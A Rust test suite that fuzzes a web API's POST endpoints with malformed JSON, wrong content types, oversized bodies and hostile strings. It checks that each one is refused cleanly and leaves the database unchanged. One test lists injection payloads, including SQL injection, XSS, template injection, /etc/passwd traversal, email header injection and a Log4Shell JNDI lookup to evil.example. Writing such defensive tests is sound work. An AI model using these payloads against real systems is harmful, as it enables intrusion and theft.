//! Bodies that nobody sends in good faith, on every call that takes one: a problem, and nothing changes.
//! The calls come from the API's own description, so that a new one is tried by itself.

use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};
use reqwest::Method;
use serde_json::{Map, Value, json};
use shared::{Problem, ProblemKind};

use crate::support::{PASSWORD, Reply, TestServer, Visitor};

const JSON: &str = "application/json";

/// A call and the names of its body's members, with those that stand for an id.
struct Call {
    path: String,
    members: Vec<(String, bool)>,
}

impl Call {
    /// A body of the right types whose values are refused by every rule.
    fn body(&self) -> Map<String, Value> {
        let value =
            |is_id: bool| json!(if is_id { "0197a000-0000-7000-8000-000000000000" } else { "x" });
        self.members.iter().map(|(name, is_id)| (name.clone(), value(*is_id))).collect()
    }

    fn with(&self, member: &str, value: Value) -> String {
        let mut body = self.body();
        body.insert(member.to_owned(), value);
        Value::Object(body).to_string()
    }

    async fn send(&self, visitor: &Visitor, content_type: Option<&str>, body: Vec<u8>) -> Reply {
        visitor.send_body(Method::POST, &self.path, content_type, body).await
    }
}

/// Somebody who is signed in: nobody is refused for want of a session.
async fn caller(server: &TestServer) -> Visitor {
    let email = "ana@example.com";
    if server.stored(email).await.is_none() {
        server.account(email).await;
    }
    let reply = server.visitor().sign_in(email, PASSWORD).await;
    server.visitor().keeping(&reply)
}

async fn calls(server: &TestServer) -> Vec<Call> {
    let document = server.visitor().get("/api/openapi.json").await.json();
    // Introspection has its own: what is no token is no fault there, and forms are no strangers.
    let paths = document["paths"].as_object().unwrap().iter();
    let paths = paths.filter(|(path, _)| *path != "/api/auth/introspect");
    let takes_a_body = paths.filter_map(|(path, item)| {
        let content = item.get("post")?.pointer("/requestBody/content/application~1json")?;
        let reference = content.pointer("/schema/$ref")?.as_str()?;
        let schema = document.pointer(reference.trim_start_matches('#'))?;
        let members = schema["properties"].as_object().cloned().unwrap_or_default();
        let is_id = |schema: &Value| schema.to_string().contains("\"uuid\"");
        let members = members.iter().map(|(name, schema)| (name.clone(), is_id(schema))).collect();
        Some(Call { path: path.clone(), members })
    });
    let calls: Vec<_> = takes_a_body.collect();
    assert!(calls.len() >= 10, "the description lists too few calls");
    calls
}

/// The reply is a problem document that says what its status says, and nothing of ours broke.
fn problem(reply: &Reply, about: &str) -> ProblemKind {
    assert_eq!(
        reply.header("content-type"),
        "application/problem+json",
        "{about}: {}",
        reply.status
    );
    let problem: Problem = serde_json::from_str(&reply.text).unwrap();
    assert_eq!(problem.status, reply.status, "{about}");
    assert_eq!(problem.kind.status(), reply.status, "{about}");
    assert!(reply.status < 500, "{about}: {}", reply.text);
    problem.kind
}

/// What no parser may take, made of a body that has every member.
fn not_json(whole: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("empty", Vec::new()),
        ("blank", b" \r\n\t".to_vec()),
        ("half", whole[..whole.len() - 1].to_vec()),
        ("trailing garbage", [whole, b" x"].concat()),
        ("trailing comma", [&whole[..whole.len() - 1], b",}"].concat()),
        ("two documents", [whole, whole].concat()),
        ("byte order mark", [b"\xef\xbb\xbf", whole].concat()),
        ("UTF-16", b"\xff\xfe{\0}\0".to_vec()),
        ("single quotes", b"{'identifier':'x'}".to_vec()),
        ("form", b"identifier=x&identifier[]=y".to_vec()),
        ("raw NUL", [b"{\0", &whole[1..]].concat()),
        ("NaN", b"NaN".to_vec()),
        ("gzip", vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]),
    ]
}

#[tokio::test]
async fn what_is_no_json_is_malformed() {
    let server = TestServer::start().await;
    let visitor = caller(&server).await;
    let before = server.database.contents().await;
    for call in calls(&server).await {
        let whole = Value::Object(call.body()).to_string();
        for (name, body) in not_json(whole.as_bytes()) {
            let about = format!("{} {name}", call.path);
            let reply = call.send(&visitor, Some(JSON), body).await;
            assert_eq!(problem(&reply, &about), ProblemKind::Malformed, "{about}");
        }
        for (member, _) in &call.members {
            for raw in [b"\xff\xfe".as_slice(), b"\xc0\xaf", b"\xed\xa0\x80", b"a\nb", b"\0"] {
                let body = call.with(member, json!("@@"));
                let (head, tail) = body.split_once("@@").unwrap();
                let body = [head.as_bytes(), raw, tail.as_bytes()].concat();
                let reply = call.send(&visitor, Some(JSON), body).await;
                let about = format!("{} {member} {raw:?}", call.path);
                assert_eq!(problem(&reply, &about), ProblemKind::Malformed, "{about}");
            }
        }
        for deep in [[vec![b'['; 7000], vec![b']'; 7000]].concat(), b"{\"a\":".repeat(2500)] {
            let reply = call.send(&visitor, Some(JSON), deep).await;
            let kind = problem(&reply, &call.path);
            let refused = [ProblemKind::Malformed, ProblemKind::Validation].contains(&kind);
            assert!(refused, "{}: {}", call.path, reply.text);
        }
    }
    assert_eq!(server.database.contents().await, before);
}

#[tokio::test]
async fn what_is_no_object_of_the_right_members_is_refused() {
    let server = TestServer::start().await;
    let visitor = caller(&server).await;
    let before = server.database.contents().await;
    for call in calls(&server).await {
        let mut bodies: Vec<_> = [
            "null",
            "true",
            "0",
            "-1e400",
            "\"x\"",
            "[]",
            "[{}]",
            "[[\"x\"]]",
            "{\"unknown\":1}",
            "{\"__proto__\":{}}",
            "{\"\":1}",
            "{\"unknown\":1,\"unknown\":2}",
        ]
        .map(str::to_owned)
        .to_vec();
        bodies.push(
            Value::Array(call.body().into_iter().map(|(_, value)| value).collect()).to_string(),
        );
        for (member, _) in &call.members {
            bodies.push(call.with(&format!("{member}[]"), json!("x")));
            bodies.push(call.with(&member.to_uppercase(), json!("x")));
            for value in [
                json!([]),
                json!(["x"]),
                json!([["x"]]),
                json!({}),
                json!({ "$ne": null }),
                json!(0),
                json!(-1.5),
                json!(true),
                json!(1e300),
                json!([null]),
            ] {
                bodies.push(call.with(member, value));
            }
        }
        for body in bodies {
            let about = format!("{} {body}", call.path);
            let reply = call.send(&visitor, Some(JSON), body.clone().into_bytes()).await;
            let kind = problem(&reply, &about);
            assert_eq!(kind, ProblemKind::Validation, "{about}");
        }
    }
    assert_eq!(server.database.contents().await, before);
}

#[tokio::test]
async fn members_that_are_missing_null_or_twice_there_are_refused() {
    let server = TestServer::start().await;
    let visitor = caller(&server).await;
    let before = server.database.contents().await;
    for call in calls(&server).await {
        for (member, _) in &call.members {
            let mut body = call.body();
            body.remove(member);
            let twice = call.with(member, body.get(member).cloned().unwrap_or(json!("x")));
            let twice = format!("{{\"{member}\":\"x\",{}", &twice[1..]);
            let bodies = [Value::Object(body).to_string(), call.with(member, Value::Null), twice];
            for body in bodies {
                let about = format!("{} {body}", call.path);
                let reply = call.send(&visitor, Some(JSON), body.into_bytes()).await;
                let kind = problem(&reply, &about);
                let expected = [
                    ProblemKind::Validation,
                    ProblemKind::Malformed,
                    ProblemKind::TokenRejected,
                    ProblemKind::CodeRejected,
                ];
                assert!(expected.contains(&kind), "{about}: {kind:?}");
            }
        }
    }
    assert_eq!(server.database.contents().await, before);
}

#[tokio::test]
async fn strings_that_break_other_programs_are_refused() {
    let server = TestServer::start().await;
    let visitor = caller(&server).await;
    let before = server.database.contents().await;
    let strings = [
        "",
        " ",
        "\0",
        "x\0y",
        "\r\n",
        "ana@example.com\r\nBcc: eve@example.com",
        "' OR '1'='1",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "../../../etc/passwd",
        "\u{202e}",
        "\u{feff}",
        "💥",
        "ａｎａ＠example.com",
        "%00",
        "${jndi:ldap://evil.example/x}",
        "ana@example.com,eve@example.com",
        "-1",
        "\u{fffd}",
    ];
    for call in calls(&server).await {
        for (member, _) in &call.members {
            let mut bodies: Vec<_> = strings.map(|text| call.with(member, json!(text))).to_vec();
            bodies.push(call.with(member, json!("x".repeat(15_000))));
            for escape in ["\\ud800", "\\udc00", "\\ud800\\ud800", "\\x00", "\\u12"] {
                bodies.push(call.with(member, json!("@@")).replace("@@", escape));
            }
            for body in bodies {
                let about = format!("{} {}", call.path, &body[..body.len().min(200)]);
                let reply = call.send(&visitor, Some(JSON), body.into_bytes()).await;
                let kind = problem(&reply, &about);
                let expected = [
                    ProblemKind::Validation,
                    ProblemKind::Malformed,
                    ProblemKind::TokenRejected,
                    ProblemKind::CodeRejected,
                ];
                assert!(expected.contains(&kind), "{about}: {kind:?}");
            }
        }
    }
    assert_eq!(server.database.contents().await, before);
}

#[tokio::test]
async fn more_than_sixteen_kibibytes_are_too_large() {
    let server = TestServer::start().await;
    for call in calls(&server).await {
        let visitor = caller(&server).await;
        for size in [16 * 1024 + 1, 1024 * 1024] {
            let mut body = b"{\"x\":\"".to_vec();
            body.resize(size, b'x');
            let reply = call.send(&visitor, Some(JSON), body).await;
            let kind = problem(&reply, &call.path);
            assert_eq!(kind, ProblemKind::PayloadTooLarge, "{}", call.path);
        }
        let padded = format!("{}{}", " ".repeat(16 * 1024 - 2), "{}");
        let reply = call.send(&visitor, Some(JSON), padded.into_bytes()).await;
        assert_ne!(reply.status, 413, "{}", call.path);
    }
}

#[tokio::test]
async fn what_is_not_declared_as_json_in_utf8_is_not_read() {
    let server = TestServer::start().await;
    let visitor = caller(&server).await;
    let before = server.database.contents().await;
    for call in calls(&server).await {
        let body = Value::Object(call.body()).to_string().into_bytes();
        for content_type in [
            None,
            Some(""),
            Some("text/plain"),
            Some("text/json"),
            Some("application/x-www-form-urlencoded"),
            Some("multipart/form-data; boundary=x"),
            Some("application/json; charset=latin-1"),
            Some("application/json; charset=utf-16"),
            Some("application/json, text/plain"),
            Some("application/jsonx"),
            Some("application/problem+json"),
        ] {
            let about = format!("{} {content_type:?}", call.path);
            let reply = call.send(&visitor, content_type, body.clone()).await;
            assert_eq!(problem(&reply, &about), ProblemKind::UnsupportedMediaType, "{about}");
        }
    }
    assert_eq!(server.database.contents().await, before);
}

#[tokio::test]
async fn json_is_known_by_every_way_to_write_its_name() {
    let server = TestServer::start().await;
    for call in calls(&server).await {
        let visitor = caller(&server).await;
        let body = Value::Object(call.body()).to_string().into_bytes();
        for content_type in [
            "APPLICATION/JSON",
            "application/json;charset=UTF-8",
            "application/json; charset=\"utf-8\"",
            "application/json; charset=utf8",
            "application/json; charset=utf-8; x=1",
            "application/json;",
        ] {
            let reply = call.send(&visitor, Some(content_type), body.clone()).await;
            assert_ne!(reply.status, 415, "{} {content_type}", call.path);
        }
    }
}

/// JSON of any shape, with members that the calls know among those that they do not.
fn any_json(names: Vec<String>) -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        any::<String>().prop_map(Value::from),
        "[0-9]{6}".prop_map(Value::from),
        "[A-Za-z0-9_-]{64}".prop_map(Value::from),
        "[a-z]{1,8}@[a-z]{1,8}\\.[a-z]{2,3}".prop_map(Value::from),
    ];
    let name = prop_oneof![proptest::sample::select(names), any::<String>()];
    leaf.prop_recursive(4, 32, 6, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::from),
            prop::collection::hash_map(name.clone(), inner, 0..6)
                .prop_map(|members| Value::Object(members.into_iter().collect())),
        ]
    })
}

#[test]
fn no_json_at_all_breaks_any_call() {
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let server = runtime.block_on(TestServer::start());
    let calls = runtime.block_on(calls(&server));
    let visitor = runtime.block_on(caller(&server));
    let names = calls.iter().flat_map(|call| call.members.iter().map(|(name, _)| name.clone()));
    let strategy = any_json(names.collect());
    let mut runner =
        TestRunner::new(Config { cases: 64, failure_persistence: None, ..Config::default() });
    let outcome = runner.run(&strategy, |body| {
        for call in &calls {
            let body = body.to_string().into_bytes();
            let reply = runtime.block_on(call.send(&visitor, Some(JSON), body));
            prop_assert!(reply.status < 500, "{}: {}", call.path, reply.text);
            if reply.status >= 400 {
                problem(&reply, &call.path);
            }
        }
        Ok(())
    });
    outcome.unwrap();
}
